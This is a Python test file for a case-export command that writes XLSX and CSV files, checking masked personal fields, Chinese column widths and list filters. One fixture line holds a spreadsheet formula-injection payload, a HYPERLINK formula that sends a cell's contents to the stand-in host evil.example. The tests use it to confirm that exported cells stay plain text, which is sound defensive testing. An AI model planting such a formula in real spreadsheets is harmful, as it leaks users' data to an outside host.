"""`sopflow export -o FILE`: the cases a list shows, one row each, as XLSX (a header row, a frozen
pane, widths that fit Chinese text, no cell ever a formula) or CSV (UTF-8 with a BOM, a formula-like
text marked as text); personal values masked unless --show-personal; the list's filters. On a real
SQLite file and on PostgreSQL."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from sopflow import Engine
from sopflow.sheets.write import display_width
from tests.conftest import Clock
from tests.intake.test_import import Run
from tests.scenarios.helpers import place_at_home

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def cases(engine: Engine, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> Engine:
    place_at_home(engine, "QG-0001")
    engine.start(
        "key_person_control",
        "QG-0002",
        {"full_name": EVIL, "phone": "13900001111"},
        actor="王芳",
        role="grid_worker",
        place="平凤乡/新立村",
    )
    clock.advance(hours=2)
    engine.fire(
        "QG-0001",
        "temperature_check",
        actor="张三",
        role="subject",
        data={"temperature": "36.5", "symptoms": "无"},
    )
    monkeypatch.setenv("SOPFLOW_NOW", "2020-02-01 11:30")
    return engine


def test_xlsx_has_a_header_a_frozen_pane_chinese_widths_and_no_formula(
    cases: Engine, sopflow: Run, tmp_path: Path
) -> None:
    out = tmp_path / "台账.xlsx"
    result = sopflow("export", "-o", str(out), "--lang", "zh")
    assert result.exit_code == 0, result.output
    assert result.output == f"已导出 3 件到 {out}\n"  # with the household's supply case
    book = openpyxl.load_workbook(out)
    sheet = book.worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "案件编号",
        "流程",
        "姓名",
        "身份证号",
        "联系电话",
        "地点",
        "当前步骤",
        "状态",
        "负责人",
        "期限",
        "超时",
        "最近监测",
        "更新时间",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    first = rows[1]
    assert first[:8] == [
        "QG-0001",
        "重点人员管控",
        "张*",
        "220721********0045",
        "138****5678",
        "前郭镇/东风社区",
        "居家医学观察",
        "办理中",
    ]
    assert first[11] == "2020-02-01 11:00 测体温问症状 体温=36.5 ℃、有症状=否"
    assert first[10] == "是"  # presence and door checks were due at once (at 09:00)
    second = next(row for row in rows if row[0] == "QG-0002")
    assert second[2] == "=HYPER***"  # masked (as a long text is), and still text below
    widths = {col: sheet.column_dimensions[col].width for col in "ABCDEFG"}
    titles = [str(row[1]) for row in rows]
    assert widths["B"] == max(display_width(t) for t in titles) + 2 == 2 * max(len(t) for t in titles) + 2
    shown = tmp_path / "shown.xlsx"
    assert sopflow("export", "-o", str(shown), "--show-personal").exit_code == 0
    sheet = openpyxl.load_workbook(shown).worksheets[0]
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[0].value == "QG-0002")
    assert cell.value == EVIL
    assert cell.data_type == "s"  # text, not a formula Excel would run


def test_csv_is_utf8_with_a_bom_and_a_formula_like_text_stays_text(
    cases: Engine, sopflow: Run, tmp_path: Path
) -> None:
    out = tmp_path / "cases.csv"
    assert sopflow("export", "-o", str(out), "--show-personal", "--lang", "zh").exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][0] == "案件编号"
    assert rows[1][2:5] == ["张三", "220721198503120045", "13812345678"]
    assert next(r for r in rows if r[0] == "QG-0002")[2] == "'" + EVIL


def test_the_lists_filters_choose_the_rows(cases: Engine, sopflow: Run, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    assert sopflow("export", "-o", str(out), "--place", "平凤乡").output.startswith("1 cases written")
    assert [r[0] for r in csv.reader(out.read_text("utf-8-sig").splitlines())][1:] == ["QG-0002"]
    assert sopflow("export", "-o", str(out), "--overdue").output.startswith("3 cases written")
    overdue = [r[0] for r in csv.reader(out.read_text("utf-8-sig").splitlines())][1:]
    # the supply case QG-0001 opened, and QG-0002: a lead is to be verified within 2 hours
    assert overdue == ["QG-0001", "QG-0001.1", "QG-0002"]
    typo = sopflow("export", "-o", str(out), "--place", "平风乡")
    assert typo.exit_code == 1
    assert "did you mean '平凤乡'?" in typo.output


def test_the_last_check_is_shown_after_it_moved_the_case_on(
    cases: Engine, clock: Clock, sopflow: Run, tmp_path: Path
) -> None:
    """A fever reading takes the case to 异常发现, whose row keeps no readings: the export still
    shows the reading, the one the command post most needs to see."""
    clock.advance(hours=1)
    cases.fire(
        "QG-0001",
        "temperature_check",
        actor="张三",
        role="subject",
        data={"temperature": "38.2", "symptoms": "有"},
    )
    assert cases.case("QG-0001").step == "fever_found"
    out = tmp_path / "cases.csv"
    assert sopflow("export", "-o", str(out), "--lang", "zh").exit_code == 0
    rows = list(csv.reader(out.read_bytes().decode("utf-8-sig").splitlines()))
    first = next(row for row in rows if row[0] == "QG-0001")
    assert first[6] == "异常发现"
    assert first[11] == "2020-02-01 12:00 测体温问症状 体温=38.2 ℃、有症状=是"
    assert next(row for row in rows if row[0] == "QG-0002")[11] == ""  # no check recorded
